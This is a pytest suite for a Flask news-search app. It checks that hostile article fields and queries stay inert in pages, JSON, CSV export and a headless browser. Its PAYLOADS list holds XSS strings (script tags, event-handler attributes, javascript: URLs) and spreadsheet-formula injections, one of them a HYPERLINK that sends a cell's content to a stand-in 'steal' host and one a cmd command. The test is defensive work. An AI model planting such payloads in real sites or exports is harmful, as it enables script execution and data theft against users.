"""Hostile articles and queries are rendered inert everywhere.

A team-written corpus puts ``<script>``, event-handler attributes, attribute-breaking
quotes and ``javascript:`` URLs into every field a reader takes (headline, body,
source, URL, author, and text next to names so that entities carry them too). Every
page and JSON answer over that index is checked as text (no markup of ours is broken,
no live ``javascript:`` link) and in Debian's chromium (no dialog opens, no script runs,
the CSP reports nothing).
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote

import pytest
from flask.testing import FlaskClient
from playwright.sync_api import Browser, Dialog

from search.indexer import index_paths
from tests.conftest import served
from web import create_app

PAYLOADS = (
    "<script>alert('xss-script')</script>",
    '"><img src=x onerror="alert(\'xss-img\')">',
    "' onmouseover='alert(1)' x='",
    "<svg onload=alert('xss-svg')>",
    "javascript:alert('xss-url')",
    "</textarea></title><script>alert('xss-title')</script>",
    '=HYPERLINK("https://x.test/steal?"&A1,"Open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
HOSTILE_QUERIES = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "onerror",
    "script alert",
    "Marsh",
    "harbour",
)
# Elements no page of ours contains: in a page, one can only have come from an article.
FOREIGN_TAGS = {"script", "img", "iframe", "object", "embed", "textarea"}


class LiveMarkup(HTMLParser):
    """Collects what a browser would treat as markup rather than text."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FOREIGN_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=...>")
            if name in ("href", "src", "action") and (value or "").strip().lower().startswith(
                "javascript:"
            ):
                self.found.append(f"<{tag} {name}={value!r}>")


def live_markup(html: str) -> list[str]:
    parser = LiveMarkup()
    parser.feed(html)
    parser.close()
    return parser.found


FIRE_EVENTS = """
for (const element of document.querySelectorAll("*")) {
  for (const type of ["mouseover", "focus", "click"]) {
    if (type === "click" && element.closest("a, button, form")) continue;  // stay on the page
    element.dispatchEvent(new Event(type, {bubbles: true}));
  }
}
"""


def hostile_records() -> list[dict[str, str]]:
    records = []
    for number, payload in enumerate(PAYLOADS):
        records.append(
            {
                "id": f"hostile-{number}",
                "headline": f"Harbour council vote {payload}",
                "body": (
                    f"Mayor Helena Marsh {payload} told the Bristol Harbour Authority on "
                    f"Tuesday that the vote would go ahead. {payload} Officials from the "
                    "Port Workers Union in Bristol said they would attend.\n\n"
                    f"The council said {payload} in a statement."
                ),
                "url": payload if payload.startswith("javascript:") else f"https://x.test/{number}",
                "author": payload,
                "source": payload if payload[:1] in "=@" else f"Gazette {payload}",
                "date": "2024-03-0" + str(number + 1),
            }
        )
    return records


@pytest.fixture(scope="module")
def hostile_index(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile-input")
    lines = "\n".join(json.dumps(record) for record in hostile_records())
    (folder / "hostile.jsonl").write_text(lines + "\n", encoding="utf-8")
    (folder / "page.html").write_text(
        "<html><head><title>Harbour <script>alert('t')</script> vote</title></head><body>"
        "<article><h1>Harbour vote</h1><p>Mayor Helena Marsh said the harbour vote "
        "&lt;script&gt;alert('entity')&lt;/script&gt; would go ahead next week, and the "
        "council agreed after a long debate about the port and its future.</p>"
        "<p>The Port Workers Union welcomed the decision on Tuesday in Bristol.</p>"
        "</article></body></html>",
        encoding="utf-8",
    )
    target = tmp_path_factory.mktemp("hostile-index")
    summary = index_paths([folder], target, workers=1)
    assert summary.indexed == len(PAYLOADS) + 1, summary
    return target


@pytest.fixture(scope="module")
def hostile_client(hostile_index: Path) -> Iterator[FlaskClient]:
    app = create_app({"INDEX_DIR": str(hostile_index), "TESTING": True})
    with app.test_client() as client:
        yield client


def pages(client: FlaskClient) -> list[str]:
    """Every HTML page a user can reach over the hostile index."""
    urls = ["/", "/help", *[f"/search?q={quote(q)}" for q in HOSTILE_QUERIES]]
    results = client.get("/api/search?per_page=100&collapse=false").get_json()["results"]
    for hit in results:
        urls.append(f"/articles/{quote(hit['id'], safe='')}?q=harbour")
        urls.append(f"/search?source={quote(hit['source'])}")
        for kind, names in hit["entities"].items():
            urls += [f"/search?entity={quote(name)}" for name in names]
            if kind != "other":
                urls += [f"/entities/{kind}/{quote(name, safe='')}" for name in names]
    return list(dict.fromkeys(urls))


def test_the_hostile_corpus_reaches_every_field(hostile_client: FlaskClient) -> None:
    """The test is only worth something if the payloads really are in the index."""
    article = hostile_client.get("/api/articles/hostile-0").get_json()
    assert "<script>" in article["headline"] and "<script>" in article["body"]
    assert "<script>" in article["source"]
    people = hostile_client.get("/api/search?q=Marsh").get_json()["facets"]["person"]
    assert people, "no person facet: the entity path is not exercised"


def test_pages_render_every_payload_as_text(hostile_client: FlaskClient) -> None:
    for url in pages(hostile_client):
        response = hostile_client.get(url)
        assert response.status_code < 500, url
        assert live_markup(response.get_data(as_text=True)) == [], url


def test_snippets_add_only_mark_tags(hostile_client: FlaskClient) -> None:
    for query in HOSTILE_QUERIES:
        response = hostile_client.get("/api/search", query_string={"q": query})
        if response.status_code != 200:
            continue
        for hit in response.get_json()["results"]:
            tags = set(re.findall(r"</?([a-zA-Z][\w-]*)", hit["snippet"]))
            assert tags <= {"mark"}, (query, hit["snippet"])


def test_csv_export_neutralises_formulas_and_keeps_text(hostile_client: FlaskClient) -> None:
    response = hostile_client.get("/export.csv?q=harbour")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert len(rows) > len(PAYLOADS)  # a header and every article
    cells = [cell for row in rows[1:] for cell in row]
    assert any("<script>" in cell for cell in cells)  # kept as text, as it was written
    assert not any(cell[:1] in ("=", "+", "-", "@") for cell in cells)


def test_json_is_served_as_json(hostile_client: FlaskClient) -> None:
    response = hostile_client.get("/api/articles/hostile-0")
    assert response.mimetype == "application/json"
    assert response.headers["X-Content-Type-Options"] == "nosniff"


@pytest.fixture(scope="module")
def hostile_server(hostile_index: Path) -> Iterator[str]:
    with served(hostile_index, threads=2) as url:
        yield url


@pytest.mark.browser
def test_no_script_runs_in_the_browser(
    chromium: Browser, hostile_server: str, hostile_client: FlaskClient
) -> None:
    dialogs: list[str] = []
    errors: list[str] = []

    def on_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    context = chromium.new_context(base_url=hostile_server)
    context.set_default_timeout(5_000)
    page = context.new_page()
    page.on("dialog", on_dialog)
    page.on("pageerror", lambda error: errors.append(str(error)))
    try:
        for url in pages(hostile_client):
            page.goto(url)
            # Fire mouse and focus events on every element: an injected handler would run now.
            page.evaluate(FIRE_EVENTS)
            assert page.locator("body script, body img, body svg[onload]").count() == 0, url
    finally:
        context.close()
    assert dialogs == [], f"script ran: {dialogs}"
    assert errors == []
